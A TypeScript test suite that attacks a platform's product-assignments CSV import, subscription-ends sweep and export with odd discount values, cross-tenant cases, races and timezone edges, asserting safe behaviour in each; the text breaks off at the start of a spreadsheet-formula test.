import { randomUUID } from 'node:crypto';
import { and, count, eq, sql } from 'drizzle-orm';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { users } from '@platform/schema/db';
import {
  emailOutbox,
  importJobs,
  invoices,
  organizations,
  productInvites,
  products,
  rosterItems,
  sandboxCharges,
  subscriptions,
} from '@platform/schema/db';
import type { ExportStatus } from '@platform/schema/imports/export.zod';
import { importMessages } from '@platform/schema/imports/import-rules';
import type { ImportStatus } from '@platform/schema/imports/import.zod';
import {
  addDays,
  dayKeyOf,
  orgTimeZone,
  type DayKey,
} from '@platform/schema/time-tracking/org-calendar';
import { runImport } from '../imports/imports.service.ts';
import {
  addMembership,
  insertTestUser,
  linkChild,
  logInAs,
  newOrgWithOwner,
  signedInStaff,
  uniqueEmail,
} from '../testing/auth-fixtures.ts';
import { productThroughRoute } from '../testing/payment-fixtures.ts';
import type { CookieJar } from '../testing/cookie-jar.ts';
import { holdLock, importLockOf } from '../testing/lock-fixtures.ts';
import { insertRosterItem } from '../testing/sync-fixtures.ts';
import { importCalls } from '../testing/import-fixtures.ts';
import { drainJobs, waitFor } from '../testing/job-fixtures.ts';
import { createTestApp } from '../testing/test-app.ts';
import { testDatabaseKinds } from '../testing/test-database.ts';
import { endAgreedSubscriptions } from './subscription-ends.service.ts';

const external = 'start-customer-subscription-for-external-payment';
const invite = 'create-customer-subscription-invite';
const HEADER = 'customerEmail,productName,action,startDate,endDate,discountType,discountAmount';
const DAY_MS = 86_400_000;

/**
 * Security and integrity review of the product assignments import (commit ba2b11f and what
 * followed it: decision 0073), the subscription-ends sweep and the export's
 * product-assignments.csv. Every test asserts the SAFE behaviour through real requests (or the
 * job's and the sweep's own entry points where a race or a clock needs it): a failing test is a
 * finding.
 */
describe.each(testDatabaseKinds)('product assignments import under attack on %s', (kind) => {
  let t: Awaited<ReturnType<typeof createTestApp>>;
  let calls: ReturnType<typeof importCalls>;
  const silentLog = { error: () => {} };

  beforeAll(async () => {
    t = await createTestApp(kind);
    calls = importCalls(t.app);
  }, 60_000);
  afterAll(() => t?.close());

  const today = (): DayKey => dayKeyOf(Date.now(), orgTimeZone(undefined));
  const newOrg = () => newOrgWithOwner(t.app, t.db);
  type Org = Awaited<ReturnType<typeof newOrg>>;

  const importFile = (jar: CookieJar, text: string) =>
    calls.importFile(jar, 'assignments', text, 4096);

  /** A product made through the catalogue (the sandbox gives it its processor product). */
  const product = (org: Org, body: Parameters<typeof productThroughRoute>[2] = {}) =>
    productThroughRoute(t.app, org.jar, body);

  /** A customer of the organisation (membership and roster item). */
  async function customerOf(orgId: string, values: Partial<typeof users.$inferInsert> = {}) {
    const user = await insertTestUser(t.db, values);
    await enrol(orgId, user);
    return user;
  }
  async function enrol(
    orgId: string,
    user: { id: string; email: string | null },
    rosterEmail = user.email,
  ) {
    await addMembership(t.db, user.id, orgId, 'customer');
    await insertRosterItem(t.db, orgId, user, {
      firstName: 'Cus',
      lastName: 'Tomer',
      email: rosterEmail,
      updatedAt: new Date(),
    });
  }

  const subsOf = (userId: string, productId?: string) =>
    t.db
      .select()
      .from(subscriptions)
      .where(
        and(
          eq(subscriptions.customerUserId, userId),
          productId ? eq(subscriptions.productId, productId) : undefined,
        ),
      );
  const invitesOf = (userId: string) =>
    t.db.select().from(productInvites).where(eq(productInvites.customerUserId, userId));
  const mailsTo = (address: string) =>
    t.db.select().from(emailOutbox).where(eq(emailOutbox.toAddress, address));
  const chargesOf = async (orgId: string) =>
    (
      await t.db.select({ n: count() }).from(sandboxCharges).where(eq(sandboxCharges.orgId, orgId))
    )[0]!.n;
  const invoicesOf = async (orgId: string) =>
    (await t.db.select({ n: count() }).from(invoices).where(eq(invoices.orgId, orgId)))[0]!.n;
  const orgSubscriptions = (orgId: string) =>
    t.db.select().from(subscriptions).where(eq(subscriptions.orgId, orgId));

  const visa = { number: '4242424242424242', expMonth: 12, expYear: 2040, cvc: '123' };
  const customerJar = async (email: string, orgId: string) =>
    (await logInAs(t.app, email, { profileType: 'use-customer', profileOrgId: orgId })).jar;
  const answerInvite = (jar: CookieJar, payload: object) =>
    t.app.inject({ method: 'POST', url: '/api/package-invite', payload, headers: jar.headers() });

  /** Upload (not started) as a browser does: the import's id. */
  const uploaded = (jar: CookieJar, text: string) => calls.uploaded(jar, 'assignments', text);
  /** The job's dependencies as the app's csv-import handler gives them (sandbox: invitations). */
  const jobDeps = () => ({
    database: t.database,
    log: silentLog,
    payments: {
      mailer: t.app.mailer,
      publicUrl: t.app.config.publicUrl,
      processor: 'sandbox' as const,
      jobs: t.app.jobs,
    },
  });

  async function exportOf(jar: CookieJar): Promise<Record<string, string>> {
    const created = await t.app.inject({
      method: 'POST',
      url: '/api/exports',
      headers: jar.headers(),
    });
    expect(created.statusCode, created.body).toBe(201);
    const { id } = created.json<ExportStatus>();
    let lastWake = 0;
    const status = await waitFor('the export to end', async () => {
      if (Date.now() - lastWake > 2000) {
        lastWake = Date.now();
        t.app.jobs.wake();
      }
      const read = (
        await t.app.inject({ method: 'GET', url: `/api/exports/${id}`, headers: jar.headers() })
      ).json<ExportStatus>();
      return read.status === 'done' || read.status === 'failed' ? read : undefined;
    });
    expect(status.status).toBe('done');
    const download = await t.app.inject({
      method: 'GET',
      url: `/api/exports/${id}/download`,
      headers: jar.headers(),
    });
    expect(download.statusCode).toBe(200);
    const entries = unzipSync(new Uint8Array(download.rawPayload));
    return Object.fromEntries(
      Object.entries(entries).map(([name, bytes]) => [name, strFromU8(bytes)]),
    );
  }
  const assignmentLines = (files: Record<string, string>) =>
    files['product-assignments.csv']!.trimEnd().split('\r\n').slice(1);

  // ================================================================ money

  describe('money', () => {
    it('odd discount amounts (1e400, Infinity, -0, NaN, 0.001, 9,90, 99.995 %, …) are refused or give a whole price between nothing and the product’s', async () => {
      const a = await newOrg();
      const monthly = await product(a, { priceMinor: 9_900 });
      const amounts: Array<[string, string]> = [
        ['fixed_amount', '1e400'],
        ['fixed_amount', 'Infinity'],
        ['fixed_amount', '-0'],
        ['fixed_amount', 'NaN'],
        ['fixed_amount', '0.001'],
        ['fixed_amount', '"9,90"'],
        ['fixed_amount', '9.999'],
        ['fixed_amount', '99.00'],
        ['fixed_amount', '99.01'],
        ['fixed_amount', '1e-2'],
        ['fixed_amount', '0.1'],
        ['fixed_amount', '-5'],
        ['fixed_amount', '1e21'],
        ['fixed_amount', '5e-324'],
        ['percentage', '99.995'],
        ['percentage', '100.0000000000000001'],
        ['percentage', '100.01'],
        ['percentage', '1e-9'],
        ['percentage', '-10'],
        ['percentage', 'Infinity'],
      ];
      for (const [type, amount] of amounts) {
        const ann = await customerOf(a.org.id);
        const done = await importFile(
          a.jar,
          `${ann.email},${monthly.name},${external},,,${type},${amount}`,
        );
        expect(['done', 'refused'], `${type} ${amount}`).toContain(done.status);
        const subs = await subsOf(ann.id);
        if (done.status === 'refused') {
          expect(subs, `${type} ${amount}`).toEqual([]);
          continue;
        }
        expect(subs, `${type} ${amount}`).toHaveLength(1);
        const price = subs[0]!.priceMinor;
        expect(Number.isInteger(price), `${type} ${amount}: ${price}`).toBe(true);
        expect(price, `${type} ${amount}`).toBeGreaterThanOrEqual(0);
        expect(price, `${type} ${amount}`).toBeLessThanOrEqual(9_900);
      }
      // Invitations: a discount that leaves nothing (or less than a cent) to pay is refused.
      for (const [type, amount] of [
        ['percentage', '99.995'],
        ['percentage', '100'],
        ['fixed_amount', '99'],
      ] as const) {
        const bo = await customerOf(a.org.id);
        const done = await importFile(
          a.jar,
          `${bo.email},${monthly.name},${invite},,,${type},${amount}`,
        );
        expect(done.status, `${type} ${amount}`).toBe('refused');
        expect(await invitesOf(bo.id)).toEqual([]);
        expect(await mailsTo(bo.email!)).toEqual([]);
      }
      expect(await chargesOf(a.org.id)).toBe(0);
    }, 120_000);

    it('a discount amount written in hex, octal or binary (0x10, 0o7, 0b11) is refused, not read as 16, 7 or 3', async () => {
      const a = await newOrg();
      const monthly = await product(a, { priceMinor: 9_900 });
      for (const amount of ['0x10', '0o7', '0b11']) {
        const ann = await customerOf(a.org.id);
        const done = await importFile(
          a.jar,
          `${ann.email},${monthly.name},${external},,,fixed_amount,${amount}`,
        );
        expect(
          { amount, status: done.status, prices: (await subsOf(ann.id)).map((s) => s.priceMinor) },
          amount,
        ).toEqual({ amount, status: 'refused', prices: [] });
        expect(done.rowErrors[0]?.message).toBe(importMessages.discountAmount);
      }
    });

    it('a file of subscriptions paid outside, one-time products and invitations charges nothing and bills nothing', async () => {
      const a = await newOrg();
      const monthly = await product(a);
      const pack = await product(a, { type: 'one-time', schedule: 'one-time', priceMinor: 12_000 });
      const people = await Promise.all(Array.from({ length: 4 }, () => customerOf(a.org.id)));
      const day = today();
      const done = await importFile(
        a.jar,
        [
          HEADER,
          `${people[0]!.email},${monthly.name},${external},${addDays(day, -31)},,percentage,50`,
          `${people[1]!.email},${monthly.name},${external},${addDays(day, 3)}`,
          `${people[2]!.email},${pack.name},${external},,,fixed_amount,1`,
          `${people[3]!.email},${monthly.name},${invite},${addDays(day, 2)},,fixed_amount,1.5`,
        ].join('\n'),
      );
      expect(done).toMatchObject({
        status: 'done',
        result: { subscribed: 2, recorded: 1, invited: 1 },
      });
      // The jobs the import queued (the email) have run: still nothing charged or billed.
      await drainJobs(t.app);
      expect(await chargesOf(a.org.id)).toBe(0);
      expect(await invoicesOf(a.org.id)).toBe(0);
      for (const sub of await orgSubscriptions(a.org.id)) {
        expect(sub.externalPayments).toBe(true);
        expect(sub.processorSubscriptionId).toBeNull();
        expect(sub.paymentMethodId).toBeNull();
      }
    });

    it('the accepted invitation a one-time product paid outside is kept as cannot be paid by its customer', async () => {
      const a = await newOrg();
      const pack = await product(a, { type: 'one-time', schedule: 'one-time', priceMinor: 12_000 });
      const ann = await customerOf(a.org.id);
      const done = await importFile(a.jar, `${ann.email},${pack.name},${external},,,percentage,50`);
      expect(done.result).toMatchObject({ recorded: 1 });
      const [kept] = await invitesOf(ann.id);
      expect(kept).toMatchObject({ status: 'accepted', priceMinor: 6_000 });
      const jar = await customerJar(ann.email!, a.org.id);
      const answers = await Promise.all(
        Array.from({ length: 3 }, () =>
          answerInvite(jar, { action: 'accept-package-invite', inviteId: kept!.id, card: visa }),
        ),
      );
      for (const answer of answers) {
        const valid = answer.statusCode === 200 && answer.json<{ valid?: boolean }>().valid;
        expect(valid, answer.body).not.toBe(true);
      }
      expect(await chargesOf(a.org.id)).toBe(0);
      expect(await invoicesOf(a.org.id)).toBe(0);
      expect(await invitesOf(ann.id)).toMatchObject([{ status: 'accepted', invoiceId: null }]);
    });

    it('an open invitation is not left payable once the same product is imported as paid outside: never paid outside and charged by card for one product', async () => {
      const a = await newOrg();
      const monthly = await product(a);
      const ann = await customerOf(a.org.id);
      const invited = await importFile(a.jar, `${ann.email},${monthly.name},${invite},`);
      expect(invited.result).toMatchObject({ invited: 1 });
      // Decision 0073: "a customer who already has a subscription of that product that is not
      // cancelled (or a pending invitation to it) is left alone and counted unchanged".
      const outside = await importFile(
        a.jar,
        `${ann.email},${monthly.name},${external},${addDays(today(), -3)}`,
      );
      expect(outside.status).toBe('done');
      const [open] = await invitesOf(ann.id);
      const jar = await customerJar(ann.email!, a.org.id);
      await answerInvite(jar, { action: 'accept-package-invite', inviteId: open!.id, card: visa });
      const live = (await subsOf(ann.id, monthly.id)).filter((s) => s.status !== 'cancelled');
      const charged = await chargesOf(a.org.id);
      // Never both: recorded as paid outside for it, and charged by card for it as well.
      expect({
        live: live.map((s) => (s.externalPayments ? 'paid outside' : 'by card')).sort(),
        chargedWhilePaidOutside: live.some((s) => s.externalPayments) && charged > 0,
      }).toEqual({ live: [expect.any(String)], chargedWhilePaidOutside: false });
    });
    it('an invitation at a discount is never charged above the product’s price once that price is lowered', async () => {
      const a = await newOrg();
      const monthly = await product(a, { priceMinor: 9_900 });
      const ann = await customerOf(a.org.id);
      const done = await importFile(
        a.jar,
        `${ann.email},${monthly.name},${invite},,,fixed_amount,1`,
      );
      expect(done.result).toMatchObject({ invited: 1 });
      const [sent] = await invitesOf(ann.id);
      expect(sent!.priceMinor).toBe(9_800);
      await t.db.update(products).set({ priceMinor: 5_000 }).where(eq(products.id, monthly.id));
      const jar = await customerJar(ann.email!, a.org.id);
      await Promise.all(
        Array.from({ length: 3 }, () =>
          answerInvite(jar, { action: 'accept-package-invite', inviteId: sent!.id, card: visa }),
        ),
      );
      const charged = await t.db
        .select({ amount: sandboxCharges.amountMinor })
        .from(sandboxCharges)
        .where(and(eq(sandboxCharges.orgId, a.org.id), eq(sandboxCharges.outcome, 'succeeded')));
      expect(charged.filter((c) => c.amount > 5_000)).toEqual([]);
      expect(charged.length).toBeLessThanOrEqual(1);
    });
  });

  // ================================================================ tenancy

  describe('tenancy', () => {
    it('another organisation’s customer, the organisation’s own staff, a removed customer, a child without an address and a blank address are no customers to assign', async () => {
      const a = await newOrg();
      const b = await newOrg();
      const monthly = await product(a);
      const theirs = await customerOf(b.org.id);
      const removed = await customerOf(a.org.id);
      await t.db
        .update(rosterItems)
        .set({ deleted: true, updatedAt: new Date() })
        .where(and(eq(rosterItems.orgId, a.org.id), eq(rosterItems.userId, removed.id)));
      const clerk = await signedInStaff(t.app, t.db, a.org.id, ['view-customers']);
      const parent = await customerOf(a.org.id);
      const child = await insertTestUser(t.db, { email: null, withPassword: false });
      await enrol(a.org.id, child);
      await linkChild(t.db, parent.id, child.id, a.org.id);
      for (const email of [theirs.email!, a.owner.email!, clerk.user.email!, removed.email!, '']) {
        const done = await importFile(a.jar, `${email},${monthly.name},${external},`);
        expect(done.status, email).toBe('refused');
      }
      for (const id of [theirs.id, a.owner.id, clerk.user.id, removed.id, child.id])
        expect(await subsOf(id)).toEqual([]);
      expect(await orgSubscriptions(a.org.id)).toEqual([]);
      expect(await orgSubscriptions(b.org.id)).toEqual([]);
    });

    it('a product of the same name in another organisation is never the one assigned', async () => {
      const a = await newOrg();
      const b = await newOrg();
      const name = `Shared ${randomUUID().slice(0, 8)}`;
      // Made first in B (a lower id is not the point: the catalogue is the organisation's).
      const theirs = await product(b, { name, priceMinor: 100 });
      const ours = await product(a, { name, priceMinor: 9_900 });
      const ann = await customerOf(a.org.id);
      await enrol(b.org.id, ann);
      const done = await importFile(a.jar, `${ann.email},${name.toUpperCase()},${external},`);
      expect(done.status).toBe('done');
      const subs = await subsOf(ann.id);
      expect(subs.map((s) => [s.orgId, s.productId, s.priceMinor])).toEqual([
        [a.org.id, ours.id, 9_900],
      ]);
      expect(await subsOf(ann.id, theirs.id)).toEqual([]);
    });

    it('two customers whose addresses differ only in letter case are refused, not guessed; one in another case is found', async () => {
      const a = await newOrg();
      const monthly = await product(a);
      const email = uniqueEmail('twin');
      const one = await insertTestUser(t.db, { email });
      const two = await insertTestUser(t.db, { email: email.toUpperCase() });
      await enrol(a.org.id, one);
      await enrol(a.org.id, two);
      const refused = await importFile(a.jar, `${email},${monthly.name},${invite},`);
      expect(refused.status).toBe('refused');
      expect(await invitesOf(one.id)).toEqual([]);
      expect(await invitesOf(two.id)).toEqual([]);
      expect(await mailsTo(email)).toEqual([]);
      expect(await mailsTo(email.toUpperCase())).toEqual([]);
      const mixed = uniqueEmail('Mixed').replace('mixed', 'MiXeD');
      const cased = await insertTestUser(t.db, { email: mixed });
      await enrol(a.org.id, cased);
      const done = await importFile(a.jar, `${mixed.toLowerCase()},${monthly.name},${external},`);
      expect(done.result).toMatchObject({ subscribed: 1 });
      expect(await subsOf(cased.id)).toHaveLength(1);
    });
  });

  // ================================================================ idempotency and races

  describe('idempotency and races', () => {
    it('the same file imported twice at once gives one subscription, one invitation and one email per customer and product', async () => {
      const a = await newOrg();
      const monthly = await product(a);
      const pack = await product(a, { type: 'one-time', schedule: 'one-time', priceMinor: 5_000 });
      const outside = await Promise.all(Array.from({ length: 3 }, () => customerOf(a.org.id)));
      const invited = await Promise.all(Array.from({ length: 3 }, () => customerOf(a.org.id)));
      const file = [
        HEADER,
        ...outside.map((p) => `${p.email},${monthly.name},${external},${addDays(today(), -5)}`),
        ...outside.map((p) => `${p.email},${pack.name},${external},`),
        ...invited.map((p) => `${p.email},${monthly.name},${invite},`),
      ].join('\n');
      const ids = [await uploaded(a.jar, file), await uploaded(a.jar, `${file}\n`)];
      const started = await Promise.all(ids.map((id) => calls.start(a.jar, id)));
      expect(started.map((s) => s.statusCode)).toEqual([200, 200]);
      await Promise.all([
        ...ids.map((id) => runImport(jobDeps(), id)),
        ...ids.map((id) => runImport(jobDeps(), id)),
        drainJobs(t.app),
      ]);
      await drainJobs(t.app);
      const statuses = await Promise.all(
        ids.map(async (id) => (await calls.status(a.jar, id)).json<ImportStatus>()),
      );
      expect(statuses.map((s) => s.status)).toEqual(['done', 'done']);
      for (const p of outside) {
        expect(await subsOf(p.id, monthly.id)).toHaveLength(1);
        expect(await invitesOf(p.id)).toHaveLength(1);
      }
      for (const p of invited) {
        expect(await invitesOf(p.id)).toHaveLength(1);
        expect(await mailsTo(p.email!)).toHaveLength(1);
      }
    });

    it('a row with no start and an end already past does not write a subscription that ended before it started', async () => {
      const a = await newOrg();
      const monthly = await product(a);
      const ann = await customerOf(a.org.id);
      const ended = addDays(today(), -30);
      const done = await importFile(a.jar, `${ann.email},${monthly.name},${external},,${ended}`);
      const subs = await subsOf(ann.id);
      if (done.status === 'refused') {
        expect(subs).toEqual([]);
        return;
      }
      for (const sub of subs)
        expect({ startedOn: sub.startedOn, endsOn: sub.endsOn }).toEqual({
          startedOn: expect.toSatisfy((s: string) => s <= ended) as unknown as string,
          endsOn: ended,
        });
    });

    it('that row (no start, an end already past) imported again on a later day adds no second subscription', async () => {
      const a = await newOrg();
      const monthly = await product(a);
      const ann = await customerOf(a.org.id);
      const row = `${ann.email},${monthly.name},${external},,${addDays(today(), -30)}`;
      const first = await importFile(a.jar, row);
      if (first.status === 'refused') return; // refused as a bad row: nothing to repeat
      // As the first import leaves it when it ran yesterday: the row's start is "the day it ran".
      await t.db
        .update(subscriptions)
        .set({ startedOn: addDays(today(), -1) })
        .where(eq(subscriptions.customerUserId, ann.id));
      const again = await importFile(a.jar, row);
      expect(again.result).toMatchObject({ subscribed: 0, unchanged: 1 });
      expect(await subsOf(ann.id)).toHaveLength(1);
    });

    it.runIf(kind === 'postgres')(
      'a product archived, and a customer marked as paying outside, while the import waits for its turn get nothing',
      async () => {
        const a = await newOrg();
        const toArchive = await product(a);
        const other = await product(a);
        const ann = await customerOf(a.org.id);
        const bo = await customerOf(a.org.id);
        const id = await uploaded(
          a.jar,
          [
            `${ann.email},${toArchive.name},${external},`,
            `${bo.email},${other.name},${invite},`,
          ].join('\n'),
        );
        const lock = await holdLock(t.db, importLockOf(a.org.id));
        await t.db.update(importJobs).set({ status: 'queued' }).where(eq(importJobs.id, id));
        const run = runImport(jobDeps(), id);
        await waitFor('the import to be checked and waiting', async () => {
          const [job] = await t.db.select().from(importJobs).where(eq(importJobs.id, id));
          return job?.status === 'running' && job.rowsTotal !== null ? true : undefined;
        });
        const archived = await t.app.inject({
          method: 'POST',
          url: `/api/catalogue/products/${toArchive.id}/archive`,
          headers: a.jar.headers(),
        });
        expect(archived.statusCode).toBe(200);
        await t.db
          .update(rosterItems)
          .set({ externalPayments: true, updatedAt: new Date() })
          .where(and(eq(rosterItems.orgId, a.org.id), eq(rosterItems.userId, bo.id)));
        await lock.release();
        await run;
        await drainJobs(t.app);
        expect(await subsOf(ann.id)).toEqual([]);
        expect(await invitesOf(bo.id)).toEqual([]);
        expect(await mailsTo(bo.email!)).toEqual([]);
      },
    );
  });

  // ================================================================ invitations and access

  describe('invitations and access', () => {
    it('no invitation or email to a customer who has the product running paid outside, nor for a file refused for another row', async () => {
      const a = await newOrg();
      const monthly = await product(a);
      const local = await product(a, { type: 'one-time', schedule: 'one-time', priceMinor: 500 });
      await t.db
        .update(products)
        .set({ processorProductId: null })
        .where(eq(products.id, local.id));
      const ann = await customerOf(a.org.id);
      const bo = await customerOf(a.org.id);
      expect((await importFile(a.jar, `${ann.email},${monthly.name},${external},`)).status).toBe(
        'done',
      );
      const again = await importFile(a.jar, `${ann.email},${monthly.name},${invite},`);
      expect(again.result).toMatchObject({ invited: 0, unchanged: 1 });
      const refused = await importFile(
        a.jar,
        [`${bo.email},${monthly.name},${invite},`, `${bo.email},${local.name},${invite},`].join(
          '\n',
        ),
      );
      expect(refused.status).toBe('refused');
      await drainJobs(t.app);
      expect(await invitesOf(ann.id)).toEqual([]);
      expect(await invitesOf(bo.id)).toEqual([]);
      expect(await mailsTo(ann.email!)).toEqual([]);
      expect(await mailsTo(bo.email!)).toEqual([]);
    });

    it('the invitation is emailed to the customer’s own address only, and only that customer may open it', async () => {
      const a = await newOrg();
      const monthly = await product(a);
      const ann = await customerOf(a.org.id);
      const bo = await customerOf(a.org.id);
      const done = await importFile(
        a.jar,
        `${ann.email!.toUpperCase()},${monthly.name},${invite},`,
      );
      expect(done.result).toMatchObject({ invited: 1 });
      const mails = await t.db
        .select()
        .from(emailOutbox)
        .where(sql`lower(${emailOutbox.toAddress}) = ${ann.email!.toLowerCase()}`);
      expect(mails).toHaveLength(1);
      const [sent] = await invitesOf(ann.id);
      const boJar = await customerJar(bo.email!, a.org.id);
      const read = await answerInvite(boJar, { action: 'get-package-invite', inviteId: sent!.id });
      expect(read.statusCode).toBe(404);
      const paid = await answerInvite(boJar, {
        action: 'accept-package-invite',
        inviteId: sent!.id,
        card: visa,
      });
      expect(paid.statusCode).toBe(404);
      expect(await chargesOf(a.org.id)).toBe(0);
    });

    it('staff without both claims, a customer, and staff of another organisation can neither import assignments nor read one', async () => {
      const a = await newOrg();
      const b = await newOrg();
      const monthly = await product(a);
      const ann = await customerOf(a.org.id);
      const done = await importFile(a.jar, `${ann.email},${monthly.name},${external},`);
      expect(done.status).toBe('done');
      const till = await signedInStaff(t.app, t.db, a.org.id, ['manage-point-of-sale']);
      const viewer = await signedInStaff(t.app, t.db, a.org.id, ['view-customers']);
      const customerJ = await customerJar(ann.email!, a.org.id);
      for (const jar of [till.jar, viewer.jar, customerJ, b.jar]) {
        // B's owner imports into B (their own organisation): only A's import is not theirs.
        if (jar !== b.jar) {
          const created = await calls.create(jar, {
            kind: 'assignments',
            fileName: 'a.csv',
            totalBytes: 10,
          });
          expect(created.statusCode).toBeGreaterThanOrEqual(400);
        }
        const read = await calls.status(jar, done.id);
        expect(read.statusCode).toBeGreaterThanOrEqual(400);
        expect(read.body).not.toContain(ann.email!);
      }
    });
  });

  // ================================================================ the subscription-ends sweep

  describe('subscription-ends sweep', () => {
    async function insertSub(
      org: Org,
      values: Partial<typeof subscriptions.$inferInsert> & { productId: string },
    ) {
      const ann = await customerOf(org.org.id);
      const [row] = await t.db
        .insert(subscriptions)
        .values({
          orgId: org.org.id,
          customerUserId: ann.id,
          productName: 'P',
          priceMinor: 9_900,
          status: 'active',
          startedOn: addDays(today(), -40),
          ...values,
        })
        .returning();
      return row!;
    }
    const statusOf = async (id: string) =>
      (await t.db.select().from(subscriptions).where(eq(subscriptions.id, id)))[0]!;

    it('never ends a card-billed subscription, nor one paid outside before its day; ends each once', async () => {
      const a = await newOrg();
      const monthly = await product(a);
      const day = today();
      const card = await insertSub(a, {
        productId: monthly.id,
        endsOn: addDays(day, -1),
        nextBillingDate: addDays(day, 5),
        processorSubscriptionId: `sandbox_sub_${randomUUID()}`,
      });
      const later = await insertSub(a, {
        productId: monthly.id,
        externalPayments: true,
        endsOn: addDays(day, 2),
      });
      const due = await insertSub(a, {
        productId: monthly.id,
        externalPayments: true,
        endsOn: day,
      });
      await endAgreedSubscriptions(t.db, new Date());
      expect((await statusOf(card.id)).status).toBe('active');
      expect((await statusOf(later.id)).status).toBe('active');
      const ended = await statusOf(due.id);
      expect(ended.status).toBe('cancelled');
      await endAgreedSubscriptions(t.db, new Date(Date.now() + 60_000));
      expect((await statusOf(due.id)).cancelledAt).toEqual(ended.cancelledAt);
      expect((await statusOf(card.id)).status).toBe('active');
    });

    it('the day is the organisation’s: ended at its midnight in UTC+14, not yet in UTC−11', async () => {
      const east = await newOrg();
      const west = await newOrg();
      await t.db
        .update(organizations)
        .set({
          attributes: sql`coalesce(attributes, '{}'::jsonb) || '{"timezone":"Pacific/Kiritimati"}'::jsonb`,
        })
        .where(eq(organizations.id, east.org.id));
      await t.db
        .update(organizations)
        .set({
          attributes: sql`coalesce(attributes, '{}'::jsonb) || '{"timezone":"Pacific/Pago_Pago"}'::jsonb`,
        })
        .where(eq(organizations.id, west.org.id));
      const eastProduct = await product(east);
      const westProduct = await product(west);
      // 11:00 UTC on a fixed day: 01:00 the next day in Kiritimati, 00:00 that day in Pago Pago.
      const now = new Date(Date.now() + 400 * DAY_MS);
      now.setUTCHours(11, 0, 0, 0);
      const utcDay = dayKeyOf(now.getTime(), 'UTC');
      const eastSub = await insertSub(east, {
        productId: eastProduct.id,
        externalPayments: true,
        endsOn: addDays(utcDay, 1),
      });
      const westSub = await insertSub(west, {
        productId: westProduct.id,
        externalPayments: true,
        endsOn: addDays(utcDay, 0),
      });
      const westLate = await insertSub(west, {
        productId: westProduct.id,
        externalPayments: true,
        endsOn: addDays(utcDay, 1),
      });
      await endAgreedSubscriptions(t.db, now);
      expect((await statusOf(eastSub.id)).status).toBe('cancelled');
      expect((await statusOf(westSub.id)).status).toBe('cancelled');
      expect((await statusOf(westLate.id)).status).toBe('active');
      // An hour before Pago Pago's midnight (10:00 UTC): its subscription ending that day runs.
      const westEarly = await insertSub(west, {
        productId: westProduct.id,
        externalPayments: true,
        endsOn: addDays(utcDay, 0),
      });
      await endAgreedSubscriptions(t.db, new Date(now.getTime() - 3_600_000 - 1));
      expect((await statusOf(westEarly.id)).status).toBe('active');
    });

    it('subscriptions not yet due fill no batch: one due today is ended even when more not due come first', async () => {
      const a = await newOrg();
      const monthly = await product(a);
      const day = today();
      // Ids chosen so the ones not due yet come first in the sweep's order (by id).
      const notDue = await Promise.all(
        [1, 2, 3].map((n) =>
          insertSub(a, {
            id: `00000000-0000-4000-8000-${String(n).padStart(4, '0')}${randomUUID().slice(-8)}`,
            productId: monthly.id,
            externalPayments: true,
            endsOn: addDays(day, 1),
          }),
        ),
      );
      const due = await insertSub(a, {
        id: `0000000f-0000-4000-8000-${randomUUID().slice(-12)}`,
        productId: monthly.id,
        externalPayments: true,
        endsOn: addDays(day, -1),
      });
      // A batch the size of the ones not due (the job's 1,000, scaled down).
      await endAgreedSubscriptions(t.db, new Date(), 3);
      for (const sub of notDue) expect((await statusOf(sub.id)).status).toBe('active');
      expect((await statusOf(due.id)).status).toBe('cancelled');
    });
  });

  // ================================================================ the export

  describe('export', () => {
    it('org A’s product-assignments.csv holds nothing of org B, of a removed customer or of a deleted subscription', async () => {
      const a = await newOrg();
      const b = await newOrg();
      const ours = await product(a, { name: `Ours ${randomUUID().slice(0, 8)}` });
      const theirs = await product(b, { name: `Theirs ${randomUUID().slice(0, 8)}` });
      const both = await customerOf(a.org.id);
      await enrol(b.org.id, both);
      const removed = await customerOf(a.org.id);
      const gone = await customerOf(a.org.id);
      expect(
        (
          await importFile(
            a.jar,
            [
              `${both.email},${ours.name},${external},`,
              `${removed.email},${ours.name},${external},`,
              `${gone.email},${ours.name},${external},`,
            ].join('\n'),
          )
        ).status,
      ).toBe('done');
      expect((await importFile(b.jar, `${both.email},${theirs.name},${external},`)).status).toBe(
        'done',
      );
      await t.db
        .update(rosterItems)
        .set({ deleted: true, updatedAt: new Date() })
        .where(and(eq(rosterItems.orgId, a.org.id), eq(rosterItems.userId, removed.id)));
      await t.db
        .update(subscriptions)
        .set({ deleted: true })
        .where(eq(subscriptions.customerUserId, gone.id));
      const lines = assignmentLines(await exportOf(a.jar));
      expect(lines).toHaveLength(1);
      expect(lines[0]).toContain(both.email!);
      expect(lines[0]).toContain(ours.name);
      expect(lines.join('\n')).not.toContain(theirs.name);
      expect(lines.join('\n')).not.toContain(removed.email!);
      expect(lines.join('\n')).not.toContain(gone.email!);
    });

    it('a subscription its customer cancelled before its agreed end is not exported as running to that end', async () => {
      const a = await newOrg();
      const monthly = await product(a);
      const ann = await customerOf(a.org.id);
      const day = today();
      const agreedEnd = addDays(day, 180);
      expect(
        (
          await importFile(
            a.jar,
            `${ann.email},${monthly.name},${external},${addDays(day, -10)},${agreedEnd}`,
          )
        ).status,
      ).toBe('done');
      const [sub] = await subsOf(ann.id);
      const jar = await customerJar(ann.email!, a.org.id);
      const cancelled = await t.app.inject({
        method: 'POST',
        url: `/api/shop/subscriptions/${sub!.id}/cancel`,
        headers: jar.headers(),
        payload: { orgId: a.org.id },
      });
      expect(cancelled.statusCode, cancelled.body).toBe(200);
      // Its period paid for ends at its next billing date (20 days on): the sweep ends it then.
      await endAgreedSubscriptions(t.db, new Date(Date.now() + 25 * DAY_MS));
      const [after] = await subsOf(ann.id);
      expect(after!.status).toBe('cancelled');
      // The sweep ran 25 days ahead of the clock; the export is read after it, on that day or
      // later — here, today: its end is when it ended (now), not 25 days from now.
      await t.db
        .update(subscriptions)
        .set({ cancelledAt: new Date() })
        .where(eq(subscriptions.id, after!.id));
      const lines = assignmentLines(await exportOf(a.jar));
      const row = lines.find((l) => l.includes(ann.email!));
      // Imported from this file, a new organisation would have it running until agreedEnd.
      if (row) expect(row).not.toContain(agreedEnd);
      // Round trip: imported into a new organisation, it does not come back running.
      const c = await newOrg();
      await product(c, { name: monthly.name });
      await enrol(c.org.id, ann);
      const back = await importFile(c.jar, [HEADER, ...lines].join('\n'));
      expect(back.status).toBe('done');
      const live = (await orgSubscriptions(c.org.id)).filter((s) => s.status !== 'cancelled');
      expect(live).toEqual([]);
    });

    it('product names a spreadsheet would run as formulas are written as text', async () => {
